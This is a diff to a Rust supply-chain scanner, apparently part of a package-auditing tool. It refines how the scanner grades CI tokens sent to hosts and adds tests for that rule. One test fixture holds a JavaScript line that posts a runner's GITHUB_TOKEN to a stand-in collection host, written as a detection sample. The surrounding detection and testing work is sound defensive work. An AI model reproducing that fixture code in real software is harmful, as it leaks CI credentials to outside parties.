@@ -38,7 +38,9 @@ diligence_finding::declare_rule! {
     /// reported, on purpose. A mailer configured from the environment (`auth: { pass: process.env.SMTP_PASS }`)
     /// is not a path: the transport's options are where it connects, not what it sends. Package managers send npm configuration taken from the environment
     /// (`npm_config_*`) to the package registry: medium. API clients send their own token (`GITHUB_TOKEN` to the API they wrap): one
-    /// secret variable on a path is medium, a weak signal on its own (high when it is a CI runner's job token —
+    /// secret variable on a path is medium, a weak signal on its own (still medium when the destination is the default
+    /// of the provider's own API URL variable, `process.env.GITHUB_API_URL || 'https://…'`: the token goes to its own
+    /// service; high when it is a CI runner's job token —
     /// `GITHUB_TOKEN`, `ACTIONS_RUNTIME_TOKEN`, the OIDC request token, `CI_JOB_TOKEN` — sent to a constant host that
     /// is not the CI provider's own, critical from install-time code: a tool that posts the runner's token to its own
     /// SaaS is reported); low in a cloud credential provider whose only
@@ -132,7 +134,9 @@ fn paths_all(p: &PackageFacts) -> Vec<CodeFinding> {
                 // from an install script (it runs inside the runner) it is the attack itself.
                 SourceKind::EnvSecret
                     if ci_token(&path.from.what)
-                        && path.dest.as_deref().is_some_and(|d| !ci_provider_host(d)) =>
+                        && path.dest.as_deref().is_some_and(|d| {
+                            !ci_provider_host(d) && !ci_api_default(p, &path.to.file, d)
+                        }) =>
                 {
                     if p.file(&path.to.file).is_some_and(|f| f.install_time) {
                         Severity::Critical
@@ -232,6 +236,26 @@ fn iterated(p: &PackageFacts, path: &crate::flow::FlowPath) -> bool {
 /// True when `what` (a source detail, `process.env.NAME`) names a CI runner's job token: the
 /// GitHub Actions token, runtime and OIDC request tokens, GitLab's job token, Azure
 /// Pipelines' access token, Buildkite's agent token.
+/// True when the constant destination `dest` is the default of the CI provider's own API
+/// URL variable in the sending file (`process.env.GITHUB_API_URL || 'https://…'`): on a
+/// runner the variable is set, and the token goes to the provider's API (GitHub Enterprise
+/// included); the constant is only the fallback outside it.
+fn ci_api_default(p: &PackageFacts, file: &str, dest: &str) -> bool {
+    static RE: std::sync::OnceLock<regex::Regex> = std::sync::OnceLock::new();
+    let re = RE.get_or_init(|| {
+        regex::Regex::new(
+            r#"\b(?:GITHUB_API_URL|GITHUB_SERVER_URL|GITHUB_GRAPHQL_URL|CI_API_V4_URL|CI_SERVER_URL|CI_API_GRAPHQL_URL|SYSTEM_COLLECTIONURI)\b['"]?\]?\s*(?:\|\||\?\?)\s*["'`]([^"'`\s]+)["'`]"#,
+        )
+        .expect("static regex")
+    });
+    let Some(text) = p.file(file).and_then(|f| f.text.as_deref()) else {
+        return false;
+    };
+    re.captures_iter(text)
+        .filter_map(|c| c.get(1))
+        .any(|m| !m.as_str().is_empty() && dest.starts_with(m.as_str()))
+}
+
 fn ci_token(what: &str) -> bool {
     let name = what.rsplit('.').next().unwrap_or(what);
     matches!(
@@ -383,6 +407,37 @@ mod tests {
         assert!(super::loopback(Some("http://[::1]:80/")));
         assert!(!super::loopback(Some("https://localhost.evil.example/")));
         assert!(!super::loopback(Some("https://api.example.com/")));
+    }
+
+    /// A release tool sends the runner's `GITHUB_TOKEN` to the API the runner names in
+    /// `GITHUB_API_URL`, with a constant fallback: the token's own service, medium (an API
+    /// client), not high.
+    #[test]
+    fn negative_ci_token_to_the_runners_own_api_url() {
+        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo, tag) => fetch(API + '/repos/' + repo + '/releases', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: JSON.stringify({ tag_name: tag }) });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::Medium]);
+        assert_eq!(s.verdict, crate::Verdict::Clean);
+    }
+
+    /// The same token sent to a constant host the CI variable does not name: high.
+    #[test]
+    fn positive_ci_token_to_a_constant_host_beside_the_api_url() {
+        let code = "const API = process.env.GITHUB_API_URL || 'https://ghe.example.org/api/v3';\nfunction auth() { return process.env.GITHUB_TOKEN; }\nexports.release = (repo) => fetch('https://collect.example.net/t', { method: 'POST', headers: { authorization: `Bearer ${auth()}` }, body: repo + API });\n";
+        let s = scan(&[("package.json", PJ), ("index.js", code)]);
+        let sev: Vec<_> = s
+            .findings
+            .iter()
+            .filter(|f| f.rule == "code/env-exfiltration")
+            .map(|f| f.severity)
+            .collect();
+        assert_eq!(sev, vec![diligence_finding::Severity::High]);
     }
 
     /// The same helper whose result really is sent: still a path.
